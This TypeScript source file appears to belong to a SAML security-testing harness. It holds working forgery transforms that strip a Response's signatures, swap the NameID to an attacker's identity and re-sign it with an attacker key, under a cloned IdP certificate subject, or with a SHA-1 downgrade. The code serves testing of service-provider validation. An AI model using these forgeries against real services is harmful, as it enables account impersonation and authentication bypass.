import { pemFromBase64 } from '../../pki/certificate.ts';
import { ALGORITHMS, type DigestAlgorithmName, NS, type SignatureAlgorithmName } from '../namespaces.ts';
import { descendants, firstChild } from '../safe-xml.ts';
import { signXmlElement } from '../sign-xml.ts';
import { certificateWithSubjectOf } from './clone-certificate.ts';
import {
  assertionsOf,
  type Genuine,
  impersonate,
  parseGenuine,
  remove,
  serialize,
  signatureOf,
} from './dom.ts';
import { type TamperContext, type TamperDef, type TamperKey, TamperNotApplicable } from './types.ts';

interface ResignOptions {
  signer: TamperKey;
  /** Default: the algorithms the genuine signature used. */
  signatureAlgorithm?: SignatureAlgorithmName;
  digestAlgorithm?: DigestAlgorithmName;
  /** NameID the assertions carry after the change; absent: content unchanged. */
  nameId?: string;
  /** Any other change to the unsigned message, made before it is signed again. */
  mutate?: (g: Genuine) => void;
}

/** What signXmlElement signs with, by URI: the genuine signature's algorithms when it can. */
const SIGNATURE_NAMES = new Map(
  (['rsa-sha1', 'rsa-sha256'] as const).map((n) => [ALGORITHMS[n] as string, n]),
);
const DIGEST_NAMES = new Map((['sha1', 'sha256'] as const).map((n) => [ALGORITHMS[n] as string, n]));

/**
 * Signs again what the genuine Response had signed (its assertions first, then the Response, so the
 * Response signature covers the new assertion signatures), after dropping the genuine signatures
 * and applying the change asked for.
 */
export function resign(xml: string, tamper: string, opts: ResignOptions): string {
  const g = parseGenuine(xml, tamper);
  const signed = [...assertionsOf(g.response), g.response].filter((el) => signatureOf(el));
  if (signed.length === 0)
    throw new TamperNotApplicable(tamper, 'the genuine Response carries no signature to re-sign');
  const genuineSig = signatureOf(signed[0])!;
  const signedInfo = firstChild(genuineSig, NS.ds, 'SignedInfo');
  const method = signedInfo && firstChild(signedInfo, NS.ds, 'SignatureMethod')?.getAttribute('Algorithm');
  const digest = signedInfo && descendants(signedInfo, NS.ds, 'DigestMethod')[0]?.getAttribute('Algorithm');
  const signatureAlgorithm = opts.signatureAlgorithm ?? SIGNATURE_NAMES.get(method ?? '') ?? 'rsa-sha256';
  const digestAlgorithm = opts.digestAlgorithm ?? DIGEST_NAMES.get(digest ?? '') ?? 'sha256';
  const targets = signed.map((el) => ({
    id: el.getAttribute('ID') ?? '',
    placement: firstChild(el, NS.saml, 'Issuer') ? ('after-issuer' as const) : ('first-child' as const),
  }));
  for (const el of signed) remove(signatureOf(el)!);
  if (opts.nameId !== undefined) for (const a of assertionsOf(g.response)) impersonate(a, opts.nameId);
  opts.mutate?.(g);
  let out = serialize(g.doc);
  for (const t of targets) {
    out = signXmlElement(out, {
      id: t.id,
      key: opts.signer.key,
      certPem: opts.signer.certPem,
      signatureAlgorithm,
      digestAlgorithm,
      placement: t.placement,
    });
  }
  return out;
}

/** The genuine IdP key, for changes that stand for a Response the IdP itself issued differently. */
export function requireRealKey(ctx: TamperContext, tamper: string): TamperKey {
  if (!ctx.realKey) throw new TamperNotApplicable(tamper, 'ctx.realKey (the IdP signing key) is required');
  return ctx.realKey;
}

/** NameID changed to the attacker's, every genuine signature replaced by one of the attacker's key, the attacker's certificate in KeyInfo. */
export const keyinfoAttackerCert: TamperDef = {
  name: 'keyinfo-attacker-cert',
  title: "Re-signed with the attacker's key, the attacker's certificate in KeyInfo",
  source:
    'CVE-2024-32962 (xml-crypto trusted the certificate in KeyInfo); the signing key must come from the IdP metadata (SAML metadata 2.4.1.1, KeyDescriptor)',
  needs: 'any',
  apply(xml, ctx) {
    return resign(xml, 'keyinfo-attacker-cert', { signer: ctx.attackerKey, nameId: ctx.attackerNameId });
  },
};

/** The legitimate certificate: ctx.realKey's, else the one the genuine message carries in KeyInfo. */
function legitimateCertificate(xml: string, ctx: TamperContext): string {
  if (ctx.realKey) return ctx.realKey.certPem;
  const g = parseGenuine(xml, 'attacker-cert-same-subject');
  const b64 = descendants(g.response, NS.ds, 'X509Certificate')[0]?.textContent?.trim();
  if (!b64) {
    throw new TamperNotApplicable(
      'attacker-cert-same-subject',
      'no legitimate certificate to copy the subject from: set ctx.realKey or send KeyInfo in the genuine message',
    );
  }
  return pemFromBase64(b64);
}

/** As keyinfo-attacker-cert, but the attacker's certificate carries the legitimate certificate's subject, issuer and serial number. */
export const attackerCertSameSubject: TamperDef = {
  name: 'attacker-cert-same-subject',
  title: "Re-signed with the attacker's key under a certificate copying the IdP certificate's subject",
  source:
    'Certificate cloning (SAML Raider, "Clone certificate"): trust decided by subject DN instead of by the key in the IdP metadata (SAML metadata 2.4.1.1)',
  needs: 'any',
  apply(xml, ctx) {
    const certPem = certificateWithSubjectOf(legitimateCertificate(xml, ctx), ctx.attackerKey.key);
    return resign(xml, 'attacker-cert-same-subject', {
      signer: { key: ctx.attackerKey.key, certPem },
      nameId: ctx.attackerNameId,
    });
  },
};

/** Content unchanged; every signature replaced by an rsa-sha1 / sha1 one by the genuine IdP key (ctx.realKey). */
export const sha1Downgrade: TamperDef = {
  name: 'sha1-downgrade',
  title: 'Re-signed by the IdP key with rsa-sha1 and sha1 digests',
  source:
    'NIST SP 800-131A Rev. 2 (SHA-1 disallowed for signature generation); W3C XML Signature Syntax and Processing 1.1 (SHA-1 discouraged)',
  needs: 'any',
  apply(xml, ctx) {
    return resign(xml, 'sha1-downgrade', {
      signer: requireRealKey(ctx, 'sha1-downgrade'),
      signatureAlgorithm: 'rsa-sha1',
      digestAlgorithm: 'sha1',
    });
  },
};
